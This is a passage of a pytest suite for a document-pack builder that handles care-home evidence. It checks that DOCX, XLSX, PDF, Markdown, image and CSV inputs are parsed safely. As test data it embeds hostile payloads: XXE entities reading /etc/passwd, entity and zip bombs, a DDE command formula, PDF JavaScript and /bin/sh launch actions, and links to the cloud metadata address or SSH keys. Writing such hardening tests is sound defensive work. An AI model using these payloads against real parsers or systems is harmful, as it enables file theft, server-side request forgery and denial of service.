    while not list(out.parent.glob(".cqc.sgpack-tmp-*")) and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.01)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert proc.returncode == -signal.SIGKILL, "the build ended before it could be killed mid-way"
    assert Built(0, "", out, 0).files() == before
    # the previous pack and its preparer's notes, both as they were; nothing half-written beside them
    assert sorted(p.name for p in out.parent.iterdir() if not p.name.startswith(".")) == ["cqc", "cqc.preparer-notes.md"]
    assert build(plans, evidence, out, "--formats", "pdf").code == 0   # build() asserts no staging is left


# ---------------------------------------------------------------------------------------------- D: docx / xlsx

def test_D1_zip_bomb_member(case):
    bomb = zeros_member_zip("word/media/image1.png", 20 * 2**20, docx_bytes(["RP-01"]))
    message = unreadable(case, "x.docx", bomb)
    assert "zip entry 'word/media/image1.png' declares 20971520 bytes (compression ratio" in message


def test_D2_zip_whose_headers_lie(case):
    """Declared 1 000 bytes, holds 3 MB: the stream stops at the declared size and the CRC fails.
    (The CPython quoted-overlap vector needs CPython >= 3.11.8; this runtime is 3.11.7: see the report.)"""
    message = unreadable(case, "x.docx", lying_sizes_docx(3 * 2**20))
    assert "word/document.xml cannot be read (Bad CRC-32" in message


@pytest.mark.parametrize("doctype", [
    b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>',
], ids=["D3-xxe", "D4-billion-laughs"])
def test_D3_D4_doctype_in_office_xml(case, doctype):
    body = (b'<?xml version="1.0"?>' + doctype + b'<w:document xmlns:w="http://schemas.openxmlformats.org/'
            b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>RP-01 &x;&c;</w:t></w:r></w:p></w:body></w:document>')
    message = unreadable(case, "x.docx", docx_with({"word/document.xml": body}))
    assert message.endswith("word/document.xml contains a DOCTYPE declaration (not allowed in Office files)")
    assert "root:" not in message


@pytest.mark.parametrize("data, reason", [
    (lambda: docx_bytes(["RP-01"])[:60], "not a valid .docx (not a zip file)"),
    (lambda: b"", "file is empty"),
    (lambda: pdf_bytes(["RP-01"]), "not a valid .docx (not a zip file)"),
], ids=["truncated", "empty", "pdf-renamed"])
def test_D5_truncated_empty_or_not_a_docx(case, data, reason):
    assert unreadable(case, "x.docx", data()).endswith(f"cannot be read: {reason}")


def test_D6_a_folder_named_docx_is_never_handed_to_a_reader(case):
    plan, evidence = case
    write(evidence / "report.docx" / "word" / "document.xml", "<w:document/>")
    items = {i.path: i for i in scan(evidence).items}
    assert "report.docx" not in items
    assert items["report.docx/word/document.xml"].status == "not_read"
    assert check(plan, evidence).code == 0


def test_D7_tracked_changes_hidden_text_comments_are_reported(case):
    plan, evidence = case
    w = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    body = (b"<w:document " + w + b"><w:body><w:p><w:ins><w:r><w:t>RP-01 inserted</w:t></w:r></w:ins></w:p>"
            b"<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden</w:t></w:r></w:p>"
            b"<w:p><w:sdt><w:sdtContent><w:r><w:t>control</w:t></w:r></w:sdtContent></w:sdt></w:p></w:body></w:document>")
    write(evidence / "x.docx", docx_with({"word/document.xml": body, "word/comments.xml": b"<w:comments " + w + b"/>"}))
    notes = item(evidence, "x.docx").provenance["notes"]
    assert "contains comments, content controls, hidden text, tracked changes (text read as saved; check it)" in notes


def test_D8_external_template_is_reported_never_fetched(case):
    plan, evidence = case
    rels = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="http://169.254.169.254/t.dotm" TargetMode="External"/></Relationships>')
    write(evidence / "x.docx", docx_with({"word/_rels/settings.xml.rels": rels}))
    found = item(evidence, "x.docx")
    assert found.status == "ok" and "names an external template (not fetched)" in found.provenance["notes"]


def test_D9_macro_enabled_document_renamed_docx(case):
    message = unreadable(case, "x.docx", docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}))
    assert message.endswith("a macro-enabled document (.docm) named .docx; save it as a .docx without macros")


def test_D10_evidence_core_properties_never_reach_the_packs_own_files(hostile_build):
    """A docx whose creator is a resident: the name is in no file the packs write themselves (their
    core properties are set explicitly). The original copy in exhibits/ is the evidence itself, byte
    for byte under its SHA-256, so it keeps its own properties by design."""
    import zipfile

    name = RESIDENT.encode()
    for built, files in ((hostile_build.cqc, ["cqc-pack.docx", "cqc-pack.pdf"]),
                         (hostile_build.commissioner, ["commissioner-pack.docx", "commissioner-pack.pdf",
                                                       "return.xlsx", "return.csv"])):
        for file in files:
            path = built.out / file
            if file.endswith((".docx", ".xlsx")):
                with zipfile.ZipFile(path) as archive:
                    assert not [m for m in archive.namelist() if name in archive.read(m)], (file, "holds the name")
                    core = archive.read("docProps/core.xml").decode()
                assert "<dc:creator>" in core and "python-docx" not in core, core
            elif file.endswith(".pdf"):
                assert name not in pdf_everything(path), file
            else:
                assert name not in path.read_bytes(), file
    copy = hostile_build.exhibit("supervision/2026-03-01 d10.docx")
    assert copy["path"].endswith(" CON.docx")


def test_X1_formulas_are_read_as_values_never_evaluated(case):
    """Reading: formulas are not evaluated (cached values only, links not kept). Neutralising them in
    CSV/XLSX outputs is the writers' half of the row (issue 5 build half)."""
    plan, evidence = case
    rows = [["a", "b"], ["2026-01", '=HYPERLINK("http://x/?"&A1,"go")'], ["2026-02", "=cmd|' /C calc'!A0"],
            ["2026-03", "@SUM(1)"], ["2026-04", "+1"]]
    write(evidence / "x.xlsx", xlsx_bytes({"s": rows}))
    found = item(evidence, "x.xlsx")
    assert found.status == "ok" and "http://x" not in found.text                 # no cached value: nothing shown
    assert "@SUM(1)" in found.text


def test_X2_entity_bomb_in_sheet_xml(case):
    import io
    import zipfile
    base = xlsx_bytes({"s": [["a", "b"], ["RP-01", 1]]})
    sheet = zipfile.ZipFile(io.BytesIO(base)).read("xl/worksheets/sheet1.xml")
    doctype = (b'<!DOCTYPE s [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
               b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x SYSTEM "file:///etc/passwd">]>')
    sheet = sheet.replace(b"<worksheet", doctype + b"<worksheet", 1).replace(b"RP-01", b"&c;&x;")
    message = unreadable(case, "x.xlsx", xlsx_with({"xl/worksheets/sheet1.xml": sheet}, base))
    assert "cannot be read: " in message and "lollol" not in message and "root:" not in message


def test_X3_dimension_that_lies(case):
    plan, evidence = case
    base = xlsx_bytes({"s": [["period", "value"], ["2026-01", 1], ["2026-02", 2], ["2026-03", 3]]})
    import io
    import re
    import zipfile
    sheet = zipfile.ZipFile(io.BytesIO(base)).read("xl/worksheets/sheet1.xml")
    sheet = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', sheet)
    write(evidence / "indicators" / "x.xlsx", xlsx_with({"xl/worksheets/sheet1.xml": sheet}, base))
    started = time.monotonic()
    found = item(evidence, "indicators/x.xlsx")
    assert found.status == "ok" and len(found.series) == 3 and time.monotonic() - started < 20


def test_X4_hidden_sheets_are_reported(case):
    plan, evidence = case
    import openpyxl
    book = openpyxl.Workbook()
    book.active.append(["period", "value"])
    secret = book.create_sheet("Secret")
    secret.append(["RP-01 hidden"])
    secret.sheet_state = "hidden"
    import io
    out = io.BytesIO()
    book.save(out)
    write(evidence / "x.xlsx", out.getvalue())
    assert "hidden sheets read: Secret" in item(evidence, "x.xlsx").provenance["notes"]


# ---------------------------------------------------------------------------------------------- PDF

@pytest.mark.parametrize("data, reason", [
    (lambda: pdf_bytes(["RP-01"])[: len(pdf_bytes(["RP-01"])) // 2], "damaged PDF"),
    (lambda: b"", "file is empty"),
    (lambda: b"hello, not a pdf", "not a PDF file (no %PDF- header)"),
], ids=["truncated", "empty", "no-header"])
def test_PDF1_truncated_empty_or_not_a_pdf(case, data, reason):
    assert f"cannot be read: {reason}" in unreadable(case, "x.pdf", data())


@pytest.mark.parametrize("objects", [
    {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"},
    {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
     3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"},
], ids=["self", "multi-hop"])
def test_PDF2_cyclic_page_tree(case, objects):
    """PDFium survives; whatever it makes of the tree, the run ends with the file named and no crash."""
    plan, evidence = case
    write(evidence / "x.pdf", raw_pdf(objects))
    found = item(evidence, "x.pdf")
    assert found.status in ("ok", "unreadable") and check(plan, evidence).code == 0


def test_PDF3_page_count_that_lies(case):
    plan, evidence = case
    write(evidence / "x.pdf", one_page_pdf().replace(b"/Count 1 ", b"/Count 999999999 "))   # xref offsets kept
    started = time.monotonic()
    found = item(evidence, "x.pdf")
    assert found.status == "ok" and found.pages == 1 and "RP-01" in found.text
    assert time.monotonic() - started < 20


@pytest.mark.parametrize("kw", [dict(prev_self=True), dict(startxref=999999, tail=b" " * 2**20)],
                         ids=["xref-prev-loop", "broken-startxref-whitespace"])
def test_PDF4_xref_loops(case, kw):
    plan, evidence = case
    write(evidence / "x.pdf", one_page_pdf(**kw))
    found = item(evidence, "x.pdf", read_seconds=10)
    assert found.status in ("ok", "unreadable")          # read, or refused as damaged / over time: never a hang


def test_PDF5_flate_bomb_is_bounded(case):
    plan, evidence = case
    write(evidence / "x.pdf", flate_bomb_pdf(300))                              # 300 MB of spaces from 300 KB
    started = time.monotonic()
    found = item(evidence, "x.pdf", read_memory=256 * 2**20)
    assert found.status in ("ok", "unreadable") and time.monotonic() - started < 60
    if found.status == "unreadable":
        assert found.reason in ("needed more than 256 MB to read",) or found.reason.startswith(("reader crashed", "damaged"))


def test_PDF6_encrypted(case):
    plan, evidence = case
    assert unreadable(case, "user.pdf", pdf_bytes(["RP-01"], encrypt="user")).endswith(
        "cannot be read: PDF is encrypted (password protected)")
    write(evidence / "owner.pdf", pdf_bytes(["RP-01 owner only"], encrypt=""))
    assert item(evidence, "owner.pdf").status == "ok"                          # empty user password: readable


def test_PDF7_active_content_is_never_run(case):
    plan, evidence = case
    js = b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://169.254.169.254'\\)) >> " \
         b"/AA << /O << /S /Launch /F (/bin/sh) >> >> "
    write(evidence / "x.pdf", one_page_pdf(catalog_extra=js))
    found = item(evidence, "x.pdf")
    assert found.status == "ok" and "RP-01 hello" in found.text              # stripping on merge: build half


def test_PDF8_exhibit_info_and_xmp_never_reach_the_bundle(hostile_build):
    """An exhibit PDF naming a resident in /Info, the catalogue XMP and a page XMP: the bundle's /Info
    is sgpack's own, it has no XMP, and the name is nowhere in it (every object and decoded stream)."""
    from pypdf import PdfReader

    bundle = hostile_build.cqc.out / "cqc-pack.pdf"
    assert "RP-01 supervision notes" in pdf_text(bundle)                      # the exhibit's pages are there
    assert RESIDENT.encode() not in pdf_everything(bundle) and b"ScanCo" not in pdf_everything(bundle)
    reader = PdfReader(bundle)
    assert "/Metadata" not in reader.trailer["/Root"]
    assert set(reader.metadata) == {"/Title", "/Producer", "/Creator", "/CreationDate", "/ModDate"}
    assert reader.metadata["/Producer"].startswith("sgpack")
    assert not [page for page in reader.pages if "/Metadata" in page]


def test_PDF9_fake_redaction_is_flagged_and_never_leaves_the_provider(hostile_build):
    """Text under a black box is still text: the CQC pack's personal-data warnings, in the preparer's notes beside
    it, name the exhibit (value masked), and the commissioner pack, which leaves the provider, holds no exhibit
    text."""
    pack = hostile_build.cqc.out
    copy = hostile_build.exhibit("supervision/2026-03-03 pdf9.pdf")["path"]
    warnings = personal_data_warnings(pack)
    assert f"{copy}, E-003, paragraph 1: NHS number (valid check digit): 943 *** ****" in warnings, warnings
    assert not NHS_ANYHOW.search(warnings)                                     # masked
    _nothing_from_exhibits_in_the_commissioner_pack(hostile_build)


def personal_data_warnings(pack: Path) -> str:
    """The "Personal data in the pack" section of the CQC pack's notes for the preparer, whitespace collapsed."""
    notes = (pack.parent / f"{pack.name}.preparer-notes.md").read_text(encoding="utf-8")
    found = re.search(r"## Personal data in the pack \(\d+\)\n(.*?)(?:\n## |\Z)", notes, re.S)
    assert found, "no personal data section in the notes"
    return " ".join(found.group(1).split())


def _nothing_from_exhibits_in_the_commissioner_pack(hostile_build):
    import zipfile

    for path in hostile_build.commissioner.out.rglob("*"):
        if not path.is_file():
            continue
        if path.suffix == ".pdf":
            blob = pdf_everything(path).decode("latin-1") + pdf_text(path)
        elif path.suffix in (".docx", ".xlsx"):
            with zipfile.ZipFile(path) as archive:
                blob = " ".join(archive.read(m).decode("utf-8", "replace") for m in archive.namelist())
        else:
            blob = path.read_text("utf-8", "replace")
        assert not NHS_ANYHOW.search(blob), path.name


def test_PDF10_earlier_revision_never_reaches_the_bundle(hostile_build):
    """An incremental update replaced the page text: the bundle is written fresh from the current
    revision, so the old text is in no object or stream of it (the original copy keeps its bytes)."""
    bundle = hostile_build.cqc.out / "cqc-pack.pdf"
    assert "RP-01 current revision" in pdf_text(bundle)
    assert b"OLD-REVISION-SECRET" not in pdf_everything(bundle)
    original = hostile_build.cqc.out / hostile_build.exhibit("supervision/2026-03-04 pdf10.pdf")["path"]
    assert b"OLD-REVISION-SECRET" in original.read_bytes()                   # evidence, kept whole


def test_PDF11_signed_pdf_original_is_kept_whole(hostile_build):
    """Merging cannot keep a signature valid: the original signed file is in exhibits/ byte for byte,
    under the SHA-256 the manifest and the exhibit sheet give, and no signature field is merged."""
    from pypdf import PdfReader

    pack = hostile_build.cqc.out
    copy = hostile_build.exhibit("supervision/2026-03-05 pdf11.pdf")
    original = hostile_build.evidence / "supervision/2026-03-05 pdf11.pdf"
    assert (pack / copy["path"]).read_bytes() == original.read_bytes()
    assert copy["sha256"] in pdf_text(pack / "cqc-pack.pdf").replace("\n", "")
    assert "/AcroForm" not in PdfReader(pack / "cqc-pack.pdf").trailer["/Root"]


def test_PDF11_stale_signature_is_not_merged(hostile_build):
    """The signature widget (/FT /Sig, its /V with the PKCS#7 blob and a /ByteRange of the original file)
    would no longer match inside the bundle: it is not carried."""
    assert b"/adbe.pkcs7.detached" not in pdf_everything(hostile_build.cqc.out / "cqc-pack.pdf")


def test_PDF11_signed_pdf_is_noted(hostile_build):
    """The exhibit sheet says the signature is not preserved and where the signed original is."""
    text = pdf_text(hostile_build.cqc.out / "cqc-pack.pdf").replace("\n", " ")
    assert re.search(r"signature[^.]{0,80}not (preserved|kept|valid)", text, re.IGNORECASE)


@pytest.mark.parametrize("data, reason", [
    (lambda: b"<html><body>RP-01</body></html>", "not a PDF file (no %PDF- header)"),
    (lambda: docx_bytes(["%PDF-1.7 RP-01"]), "not a PDF file (a ZIP archive named .pdf)"),
], ids=["html", "zip"])
def test_PDF12_type_confusion(case, data, reason):
    assert unreadable(case, "x.pdf", data()).endswith(f"cannot be read: {reason}")


def test_PDF12_header_at_offset_900_is_a_pdf(case):
    plan, evidence = case
    write(evidence / "x.pdf", b" " * 900 + pdf_bytes(["RP-01"]))
    assert item(evidence, "x.pdf").status in ("ok", "unreadable")


# ---------------------------------------------------------------------------------------------- M, I: markdown, images

@pytest.mark.parametrize("text", [
    '<img src="file:///etc/passwd"> RP-01',                                   # M1
    "![x](../../../etc/hostname) ![y](/root/.ssh/id_rsa) RP-01",              # M2
    "<style>@import url(file:///etc/shadow)</style><link rel=attachment href=/etc/passwd> RP-01",  # M3
    "![x](http://169.254.169.254/latest/meta-data/) RP-01",                   # M4
], ids=["M1", "M2", "M3", "M4"])
def test_M1_to_M4_markdown_is_text_never_fetched(case, text):
    """check reads Markdown as text only (no renderer, no fetcher); the audit-hook test proves no open."""
    plan, evidence = case
    write(evidence / "notes.md", text)
    found = item(evidence, "notes.md")
    assert found.status == "ok" and found.text == text


def test_M5_pathological_markdown_is_bounded(case):
    plan, evidence = case
    write(evidence / "a.md", ">" * 10000 + " RP-01\n" + "*" * 10000 + "\n" + "x" * (5 * 2**20))
    started = time.monotonic()
    assert item(evidence, "a.md").status == "ok" and time.monotonic() - started < 20


def test_M6_pii_in_a_markdown_comment_is_flagged(hostile_build):
    """`<!-- resident NHS ... -->` is scanned in the source text: the CQC pack's personal-data
    warnings, in the preparer's notes, name the exhibit (masked); the commissioner pack holds no exhibit text."""
    copy = hostile_build.exhibit("supervision/2026-03-06 m6.md")["path"]
    warnings = personal_data_warnings(hostile_build.cqc.out)
    assert f"{copy}, E-006, paragraph 1: NHS number (valid check digit): 943 *** ****" in warnings, warnings
    assert not NHS_ANYHOW.search(warnings)                                     # masked
    _nothing_from_exhibits_in_the_commissioner_pack(hostile_build)


def test_I1_huge_image_is_never_decoded(case):
    plan, evidence = case
    header = png_bytes(1, 1)
    huge = header[:16] + (20000).to_bytes(4, "big") + (20000).to_bytes(4, "big") + header[24:]
    write(evidence / "x.png", huge)
    found = item(evidence, "x.png")
    assert (found.status, found.width, found.height) == ("ok", 20000, 20000)     # header only; never decoded


def test_I2_exif_and_gps_never_reach_the_bundle(hostile_build):
    """A JPEG with camera make, serial number, description and GPS: its pixels are re-encoded into the
    bundle with none of that (the original copy in exhibits/ is the evidence, kept whole)."""
    bundle = pdf_everything(hostile_build.cqc.out / "cqc-pack.pdf")
    for marker in (b"SN-98765-LEAK", b"LeakCam", b"Exif\x00\x00", RESIDENT.encode()):
        assert marker not in bundle, marker
    copy = hostile_build.exhibit("supervision/2026-03-07 i2.jpg")["path"]
    assert b"SN-98765-LEAK" in (hostile_build.cqc.out / copy).read_bytes()


def test_I3_svg_is_not_read(case):
    plan, evidence = case
    write(evidence / "x.svg", '<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>')
    assert (item(evidence, "x.svg").status, item(evidence, "x.svg").reason) == ("not_read", "format not read (.svg)")


def test_I4_other_formats_renamed_png(case):
    assert unreadable(case, "x.png", b"%!PS-Adobe-3.0 EPSF-3.0\n").endswith("cannot be read: not a PNG image")


# ---------------------------------------------------------------------------------------------- C: CSV

def test_C1_huge_csv_refused_before_reading(case):
    plan, evidence = case
    with open(write(evidence / "big.csv", b""), "r+b") as handle:
        handle.truncate(200 * 2**20)                                          # sparse: nothing to write
    started = time.monotonic()
    run = check(plan, evidence)
    assert run.about("big.csv")["message"].endswith("cannot be read: file is larger than the 100 MB limit")
    assert time.monotonic() - started < 30


def test_C2_field_over_the_csv_limit(case):
    message = unreadable(case, "x.csv", "a,b\n1," + "x" * 200_000 + "\n")
    assert message.endswith("cannot be read: line 2: field larger than field limit (131072)")


def test_C3_unterminated_quote(case):
    message = unreadable(case, "x.csv", 'period,value\n2026-01,1\n2026-02,"2\n2026-03,3\n')
    assert message.endswith("cannot be read: unterminated quote in the row starting on line 3")


def test_C4_bom_cp1252_nul(case):
    plan, evidence = case
    write(evidence / "indicators" / "bom.csv", "\ufeff" + SERIES)
    assert item(evidence, "indicators/bom.csv").columns == ["period", "value"]
    message = unreadable(case, "cp.csv", "cost\n\xa3 5\n".encode("cp1252"))
    assert message.endswith("cannot be read: not UTF-8 text at byte 5; save the file as UTF-8")
    write(evidence / "nul.csv", "a,b\n1,\x002\n")
    assert "contains NUL characters" in item(evidence, "nul.csv").provenance["notes"]


def test_C5_formula_like_cells_are_read_as_text(case):
    """Neutralising them in CSV/XLSX outputs is the writers' half of the row (issue 5 build half)."""
    plan, evidence = case
    write(evidence / "x.csv", 'a\n=1+1\n+1\n-1\n@SUM(1)\n"\t=1"\n＝1\n')
    found = item(evidence, "x.csv")
    assert found.status == "ok" and "=1+1" in found.text and "＝1" in found.text
